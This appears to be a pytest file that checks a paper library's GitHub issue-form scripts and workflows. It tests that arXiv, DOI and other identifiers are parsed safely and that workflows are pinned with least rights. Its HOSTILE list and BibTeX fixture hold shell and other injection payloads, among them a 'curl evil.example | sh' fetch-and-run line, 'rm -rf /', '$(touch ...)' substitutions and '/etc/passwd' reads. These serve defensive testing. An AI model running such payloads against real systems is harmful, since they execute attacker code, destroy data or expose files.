"""What the forms and workflows rely on: text of an issue stays data."""

from __future__ import annotations

import re
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

import pytest
import yaml

from tests.helpers import ROOT, small_root
from w2sg.upkeep.services.targets import target_in

pytestmark = pytest.mark.slow  # scripts run

GITHUB = ROOT / ".github"
WORKFLOWS = sorted((GITHUB / "workflows").glob("*.yml"))
FORM = "### Identifier\n\n{}\n\n### BibTeX\n\n{}\n\n### Why it belongs here\n\n_No response_\n"
OWNED = Path("/tmp/owned")  # noqa: S108 what the hostile texts would make
# What may reach a command as its argument: no blanks, quotes or other signs of a shell's.
HARMLESS = re.compile(r"[A-Za-z0-9._;()/:?=&%#+~-]+")


def said(script: str, *arguments: str, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", GITHUB / script, *arguments],
        env={"PATH": "/usr/bin:/bin", **env},
        capture_output=True,
        encoding="utf-8",
        check=False,
    )


def form(identifier: str, bibtex: str = "_No response_") -> str:
    return FORM.format(identifier, bibtex)


NATURAL = {
    "2312.09390": "2312.09390",
    " 2312.09390 ": "2312.09390",
    "arXiv:2312.09390v2": "2312.09390",
    "arXiv: 2312.09390": "2312.09390",
    "[2312.09390]": "2312.09390",
    "arXiv:2312.09390 [cs.CL] 14 Dec 2023": "2312.09390",
    "cs/0101001": "cs/0101001",
    "https://arxiv.org/abs/2312.09390": "2312.09390",
    "http://arxiv.org/abs/2312.09390": "2312.09390",
    "www.arxiv.org/abs/2312.09390": "2312.09390",
    "arxiv.org/pdf/2312.09390v1.pdf": "2312.09390",
    "https://arxiv.org/html/2312.09390v2#S3.SS1": "2312.09390",
    "https://arxiv.org/abs/cs/0101001": "cs/0101001",
    "https://huggingface.co/papers/2312.09390": "2312.09390",
    "<https://arxiv.org/abs/2312.09390>": "2312.09390",
    "[Weak-to-Strong](https://arxiv.org/abs/2312.09390)": "2312.09390",
    "Please add https://arxiv.org/abs/2312.09390, it is great!": "2312.09390",
    "10.18653/v1/2025.acl-long.51": "10.18653/v1/2025.acl-long.51",
    "doi: 10.1145/3341525.3387374": "10.1145/3341525.3387374",
    "DOI:10.1145/3341525.3387374.": "10.1145/3341525.3387374",
    "https://doi.org/10.1145/3341525.3387374": "10.1145/3341525.3387374",
    "https://dl.acm.org/doi/10.1145/3341525.3387374": "10.1145/3341525.3387374",
    "https://link.springer.com/chapter/10.1007/978-3-031-72643-9_2": "10.1007/978-3-031-72643-9_2",
    "10.1016/S0004-3702(97)00043-X": "10.1016/S0004-3702(97)00043-X",
    "https://openreview.net/forum?id=AbC_-1": "AbC_-1",
    "https://openreview.net/pdf?id=AbC_-1": "AbC_-1",
    "https://proceedings.mlr.press/v235/burns24b.html": (
        "https://proceedings.mlr.press/v235/burns24b.html"
    ),
    "aclanthology.org/P19-1001": "https://aclanthology.org/P19-1001/",
    "https://dblp.org/rec/conf/icml/Doe24.html": "conf/icml/Doe24",
}
HOSTILE = (
    "2312.09390; curl evil.example | sh",
    "2312.09390 && rm -rf /",
    "2312.09390$(touch /tmp/owned)",
    "$(touch /tmp/owned)",
    "`id`",
    "--apply",
    "--bib=/etc/passwd",
    "-- --root /",
    "https://evil.example/2312.09390",
    "https://arxiv.org.evil.example/abs/2312.09390",
    "https://evil.example/?u=https://arxiv.org/abs/x",
    "javascript:alert(1)//arxiv.org",
    "file:///etc/passwd",
    "../../etc/passwd",
    "${{ github.token }}",
    "'; DROP TABLE papers; --",
    "\x00\\0",
    "10.1145/$(id)",
    "10.1145/`id`",
    "https://arxiv.org/abs/2312.09390'\"; id #",
    "_No response_",
    "",
    "A title without anything",
    "%s%n%x",
)


@pytest.mark.parametrize("text", NATURAL)
def test_what_people_write_is_understood(text: str) -> None:
    for body in (form(text), form(text).replace("\n", "\r\n"), f"Hello,\n\n{text}\n\nThanks"):
        done = said("target-of-issue", BODY=body)
        assert done.stdout.endswith("\0"), done.stderr
        target = done.stdout[:-1]
        assert HARMLESS.fullmatch(target)
        understood = target_in(target)
        assert understood
        assert understood.id == NATURAL[text]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_else_gets_through(text: str) -> None:
    for body in (form(text.replace("\x00", "")), text.replace("\x00", "")):
        done = said("target-of-issue", BODY=body)
        target = done.stdout.rstrip("\0")
        assert not target or HARMLESS.fullmatch(target)
        assert not target.startswith("-")
        assert (done.returncode == 0) == bool(target)
        assert not OWNED.exists()


@pytest.mark.parametrize(
    "text", ["", "_No response_", "--apply", "https://evil.example/2312.09390"]
)
def test_an_issue_without_identifier_says_so(text: str) -> None:
    done = said("target-of-issue", BODY=form(text))
    assert (done.returncode, done.stdout) == (1, "")
    assert "holds no arXiv id" in done.stderr


ENTRY = """@inproceedings{x,
  title = {Weak $(touch /tmp/owned) Pupils}, author = {Doe, Jane}, year = {2025},
  booktitle = {Proceedings of the 42nd International Conference on Machine Learning},
}"""


def test_bibtex_that_was_pasted_is_taken(tmp_path: Path) -> None:
    root = small_root(tmp_path / "library")
    env = {"PATH": "/usr/bin:/bin", "PYTHON": sys.executable, "PYTHONPATH": str(ROOT)}
    for body in (form("", f"```bibtex\n{ENTRY}\n```"), form("2312.09390", ENTRY)):
        done = subprocess.run(
            ["bash", GITHUB / "add-from-issue", tmp_path / "said"],
            cwd=root,
            env={**env, "BODY": body},
            capture_output=True,
            encoding="utf-8",
            check=False,
        )
        text = (tmp_path / "said").read_text(encoding="utf-8")
        if body == form("", f"```bibtex\n{ENTRY}\n```"):
            assert done.returncode == 0, text
            assert "doe2025weak" in text
        else:
            assert done.returncode == 1
            assert "it is in the library as doe2025weak" in text
    assert not OWNED.exists()


def test_text_of_a_pull_request_is_fenced_and_cut_at_a_whole_letter(tmp_path: Path) -> None:
    file = tmp_path / "x"
    file.write_text("~~~~~~~~\n  ~~~~~~~~~~~\n<b>@someone</b> `x`\n" + "é" * 40_000, "utf-8")
    text = said("fenced", str(file)).stdout
    lines = text.splitlines()
    assert lines[0] == "~~~~~~~~text"
    assert lines[-1] == "~~~~~~~~"
    assert "\ufffd" not in text
    assert not any(line.lstrip().startswith("~~~~") for line in lines[1:-1])
    assert 60_000 < len(text.encode()) < 61_000


GH = """#!/usr/bin/env bash
echo "gh $*" >> "$GH_LOG"
[ "$1 $2" = "pr view" ] && cat "$GH_STATE"
exit 0
"""


class Repository:
    """A clone with an origin of its own, and a `gh` that notes what it is told."""

    def __init__(self, folder: Path) -> None:
        self.clone, self.origin, bin = folder / "clone", folder / "origin", folder / "bin"
        bin.mkdir()
        (bin / "gh").write_text(GH, encoding="utf-8")
        (bin / "gh").chmod(0o755)
        self.log, self.state = folder / "log", folder / "state"
        self.log.touch()
        self.state.touch()
        self.env = {
            "PATH": f"{bin}:/usr/bin:/bin",
            "HOME": str(folder),
            "GH_LOG": str(self.log),
            "GH_STATE": str(self.state),
        }
        self.git(folder, "init", "-q", "--bare", "-b", "main", str(self.origin))
        self.git(folder, "clone", "-q", str(self.origin), str(self.clone))
        self.commit("start", "main")

    def git(self, where: Path, *command: str) -> str:
        named = ("-c", "user.name=t", "-c", "user.email=t@example.org")
        done = subprocess.run(
            ["git", *named, *command],
            cwd=where,
            env=self.env,
            capture_output=True,
            encoding="utf-8",
            check=True,
        )
        return done.stdout

    def commit(self, text: str, branch: str) -> None:
        (self.clone / "file").write_text(text, encoding="utf-8")
        self.git(self.clone, "add", "-A")
        self.git(self.clone, "commit", "-q", "-m", text)
        self.git(self.clone, "push", "-q", "origin", f"HEAD:{branch}")

    def propose(self, text: str) -> subprocess.CompletedProcess[str]:
        """As the workflow does: on a fresh checkout with a change."""
        self.git(self.clone, "checkout", "-q", "-B", "main", "origin/main")
        with suppress(subprocess.CalledProcessError):
            self.git(self.clone, "branch", "-q", "-D", "topic")
        (self.clone / "file").write_text(text, encoding="utf-8")
        said = self.clone.parent / "said"
        said.write_text(f"said {text}", encoding="utf-8")
        return subprocess.run(
            ["bash", GITHUB / "open-pull-request", "topic", "A title", said],
            cwd=self.clone,
            env=self.env,
            capture_output=True,
            encoding="utf-8",
            check=False,
        )


@pytest.mark.git
def test_one_pull_request_that_leaves_somebodys_commits_alone(tmp_path: Path) -> None:
    repository = Repository(tmp_path)
    assert "nothing changed" in repository.propose("start").stdout
    assert repository.propose("one").returncode == 0
    assert "gh pr create --head topic" in repository.log.read_text(encoding="utf-8")
    repository.state.write_text("OPEN\n", encoding="utf-8")
    assert repository.propose("two").returncode == 0
    assert "gh pr edit topic" in repository.log.read_text(encoding="utf-8")
    assert repository.git(repository.origin, "show", "topic:file") == "two"
    repository.git(repository.clone, "checkout", "-q", "topic")
    repository.commit("by somebody", "topic")
    done = repository.propose("three")
    assert done.returncode == 1
    assert "has commits of somebody" in done.stderr
    assert repository.git(repository.origin, "show", "topic:file") == "by somebody"


def test_forms_have_what_scripts_and_links_ask_for() -> None:
    forms = ROOT / ".github" / "ISSUE_TEMPLATE"
    for path in forms.glob("*.yml"):
        form = yaml.safe_load(path.read_text(encoding="utf-8"))
        if path.name != "config.yml":
            ids = [part["id"] for part in form["body"]]
            assert len(ids) == len(set(ids))
            assert {"name", "description", "body"} <= set(form)
    suggestion = yaml.safe_load((forms / "suggest-a-paper.yml").read_text(encoding="utf-8"))
    labels = [part["attributes"]["label"] for part in suggestion["body"]]
    assert labels[:2] == ["Identifier", "BibTeX"]
    correction = yaml.safe_load((forms / "correct-a-record.yml").read_text(encoding="utf-8"))
    assert correction["body"][0]["id"] == "key"


def test_zizmor_finds_nothing_in_the_workflows() -> None:
    program = Path(sys.executable).with_name("zizmor")
    done = subprocess.run(
        [program, "--offline", "--quiet", ROOT / ".github"],
        capture_output=True,
        encoding="utf-8",
        check=False,
    )
    assert done.returncode == 0, done.stdout


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_workflows_are_pinned_and_have_least_rights(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    workflow = yaml.safe_load(text)
    assert workflow["permissions"] == {}
    assert workflow["concurrency"]
    for job in workflow["jobs"].values():
        assert job["timeout-minutes"] <= 60
    for used in re.findall(r"uses: (\S+)", text):
        assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", used), used
    for run in re.findall(r"run: (.*)", text):
        assert "${{" not in run, "an expression in a command may carry code"
